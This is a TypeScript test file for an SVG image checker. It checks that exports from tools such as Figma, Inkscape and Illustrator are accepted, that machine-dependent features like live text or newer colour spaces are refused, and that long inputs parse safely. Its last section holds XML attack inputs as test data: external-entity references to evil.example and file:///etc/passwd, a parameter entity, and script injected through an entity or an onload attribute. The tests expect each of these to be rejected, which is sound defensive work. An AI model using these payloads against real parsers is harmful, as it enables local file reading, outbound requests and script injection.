import { parseXml } from '@rgrove/parse-xml'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { checkImage } from '../../src/drawing/images/check-image.ts'
import { doubtfulDrawings } from '../../src/drawing/index.ts'
import { drawnDifferently } from '../../src/drawing/svg/svg-alike.ts'
import { svg } from '../fixtures/svgs.ts'

const bytes = (source: string) => new TextEncoder().encode(source)
const rect = '<rect width="80" height="40" fill="#c00000"/>'
const dtd = 'PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
const filled = (attributes: string, before = '') => svg(`${before}<rect width="80" height="40" ${attributes}/>`)

/** The colour in the middle. */
async function middle(source: string): Promise<number[]> {
  const { data } = await sharp(bytes(source)).resize(3, 3, { fit: 'fill' }).ensureAlpha().raw().toBuffer({ resolveWithObject: true })
  return [...data.subarray(16, 20)]
}

describe('An SVG as tools export it', () => {
  it.each<[string, string, number[]]>([
    ['of CorelDRAW, with a document type', `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg ${dtd}>\n${svg(rect)}`, [192, 0, 0, 255]],
    ['of Inkscape, with one without an address', `<!DOCTYPE svg>${svg(rect)}`, [192, 0, 0, 255]],
    [
      'of an older Illustrator, with its vocabularies as entities',
      `<!DOCTYPE svg ${dtd} [\n\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n]>` +
        svg(`<g i:layer="yes">${rect}</g>`, 'xmlns:i="&ns_ai;"').replace('http://www.w3.org/2000/svg', '&ns_svg;'),
      [192, 0, 0, 255],
    ],
    [
      'of Figma, with a shadow',
      svg(
        `<g filter="url(#f)">${rect}</g><defs><filter id="f" x="0" y="0" width="80" height="40" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="b"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.25 0"/><feBlend in2="b" result="s"/><feBlend in="SourceGraphic" in2="s"/></filter></defs>`,
      ),
      [192, 0, 0, 255],
    ],
    [
      'of Figma, with a wide colour behind a plain one',
      filled('fill="#c00000" style="fill:#C00000;fill:color(display-p3 0.7 0.1 0.1);fill-opacity:1"'),
      [192, 0, 0, 255],
    ],
    ['of Figma, with a variable that has a colour to fall back to', filled('fill="var(--fill-0, #c00000)"'), [192, 0, 0, 255]],
    ['with a size in percent and a view box', svg(rect).replace('width="80" height="40"', 'width="100%" height="100%"'), [192, 0, 0, 255]],
    ['with a layer of text that is hidden', svg(`${rect}<g display="none"><text>Notes</text></g>`), [192, 0, 0, 255]],
    ['with a group for text that is empty', svg(`${rect}<text> \n</text>`), [192, 0, 0, 255]],
    [
      'with a font that no text uses',
      svg(
        `<style>@font-face{font-family:"A";src:url("#F") format(svg)}.a{fill:hsl(0 100% 38%)}</style><rect class="a" width="80" height="40"/>`,
      ),
      [194, 0, 0, 255],
    ],
  ])('%s is taken, and drawn as it is meant', async (_, source, colour) => {
    await expect(checkImage(bytes(source))).resolves.toMatchObject({ type: 'image/svg+xml', width: 80, height: 40 })
    expect(await middle(source)).toEqual(colour)
  })
})

describe('An SVG that every machine draws in its own way', () => {
  it.each<[string, string, RegExp]>([
    ['live text', svg(`${rect}<text y="20">Linden <tspan>house</tspan></text>`), /live text \(“Linden house”\).*outlines/],
    ['live text in a symbol', svg(`<defs><symbol id="a"><text>L</text></symbol></defs><use href="#a"/>${rect}`), /live text \(“L”\)/],
    ['a colour of a newer kind', filled('fill="oklch(0.6 0.2 20)"'), /fill: oklch\(0\.6 0\.2 20\), which not every program draws/],
    ['one in a style', filled('style="fill:lab(50% 40 59)"'), /fill: lab\(/],
    [
      'one in a gradient',
      svg(`<linearGradient id="g"><stop stop-color="color-mix(in srgb, red, blue)"/></linearGradient>${rect}`),
      /stop-color: color-mix\(/,
    ],
    ['one in a style sheet', filled('class="a"', '<style>.a{stroke:none;fill:light-dark(red,blue)}</style>'), /fill: light-dark\(/],
    ['a colour of the machine', filled('fill="CanvasText"'), /fill: CanvasText/],
    ['a variable', filled('style="fill:var(--brand)"'), /fill: var\(--brand\)/],
    ['a variable that is set', filled('fill="var(--a, #0f0)"', '<style>:root{--a:#00f}</style>'), /fill: var\(--a, #0f0\)/],
    ['a value that is computed', filled('fill="#c00" style="stroke-width:calc(1px + 2px)"'), /stroke-width: calc\(/],
    ['another picture in another language', svg(`<switch><g systemLanguage="de">${rect}</g></switch>`), /language of the machine/],
    ['no size', `<svg xmlns="http://www.w3.org/2000/svg">${rect}</svg>`, /how large it is/],
    ['a size in percent', `<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%">${rect}</svg>`, /how large it is/],
    ['one side', `<svg xmlns="http://www.w3.org/2000/svg" width="80">${rect}</svg>`, /how large it is/],
  ])('is refused for %s, with what to do', async (_, source, said) => {
    await expect(checkImage(bytes(source))).rejects.toThrow(said)
  })
})

describe('An SVG that was taken before', () => {
  it('is drawn, with a warning once where every machine draws it in its own way', async () => {
    const kept = new Map([
      ['a'.repeat(64), bytes(svg(`${rect}<text y="20">Linden</text>`))],
      ['b'.repeat(64), bytes(svg(rect))],
      ['c'.repeat(64), bytes(svg(rect).replace('<svg', '<?xml-stylesheet href="#a"?><svg'))],
    ])
    const read = (sha256: string) => Promise.resolve(kept.get(sha256) ?? bytes(''))
    const box = { x: 1, y: 2, width: 3, height: 4 }
    const shown = [...kept.keys(), ...kept.keys()].map((sha256) => ({ sha256, box }))
    const found = await doubtfulDrawings(shown, read)
    expect(found).toEqual([
      { rule: 'picture-differs', severity: 'warning', place: 'photo', box, message: expect.stringContaining('“Linden”') as string },
    ])
    expect(await doubtfulDrawings(shown, read)).toEqual(found)
  })
})

describe('However long its values are, an SVG', () => {
  it.each<[string, string]>([
    ['comments', `<style>${'/* a'.repeat(500_000)}</style>`],
    ['letters', `<rect fill="${'a'.repeat(2_000_000)}"/>`],
    ['brackets', `<rect fill="${'url(#'.repeat(400_000)}"/>`],
    ['hyphens', `<rect style="${'-'.repeat(2_000_000)}"/>`],
    ['spaces', `<rect style="fill:var(--a,${' '.repeat(2_000_000)}"/>`],
    ['semicolons', `<rect style="${'; '.repeat(1_000_000)}"/>`],
  ])('is looked through once, with many %s', (_, inside) => {
    const root = parseXml(svg(inside)).root
    expect(root && typeof drawnDifferently(root)).toBeDefined()
  })

  it('has a size that is read once', () => {
    const root = parseXml(`<svg xmlns="http://www.w3.org/2000/svg" width="${'1'.repeat(2_000_000)}x" height="9"/>`).root
    expect(root && drawnDifferently(root)).toContain('how large it is')
  })
})

describe('A document type', () => {
  it.each<[string, string]>([
    ['of another vocabulary', `<!DOCTYPE html>${svg(rect)}`],
    ['of an address of its own', `<!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd">${svg(rect)}`],
    ['of a file', `<!DOCTYPE svg SYSTEM "file:///etc/passwd">${svg(rect)}`],
    ['with mark-up in an entity', `<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>${svg(`<desc>&a;</desc>${rect}`)}`],
    ['with an entity twice', `<!DOCTYPE svg [<!ENTITY a "#"><!ENTITY a "https://evil.example">]>${svg(`<use href="&a;"/>${rect}`)}`],
    ['with an entity of XML itself', `<!DOCTYPE svg [<!ENTITY lt "x">]>${svg(rect)}`],
    ['with a parameter entity', `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x">%p;]>${svg(rect)}`],
    ['with attributes for elements', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg(rect)}`],
    [
      'of an entity used over and over',
      `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(200)}">]>${svg(`<desc>${'&a;'.repeat(2000)}</desc>${rect}`)}`,
    ],
    ['that comes twice', `<!DOCTYPE svg><!DOCTYPE svg>${svg(rect)}`],
  ])('%s is refused', async (_, source) => {
    await expect(checkImage(bytes(source))).rejects.toThrow(/document type|cannot be read/)
  })

  it('hides no address in an entity', async () => {
    const source = `<!DOCTYPE svg [<!ENTITY a "https://evil.example/x.png">]>${svg(`<image href="&a;" width="9" height="9"/>${rect}`)}`
    await expect(checkImage(bytes(source))).rejects.toThrow('refers to something outside itself')
  })
})
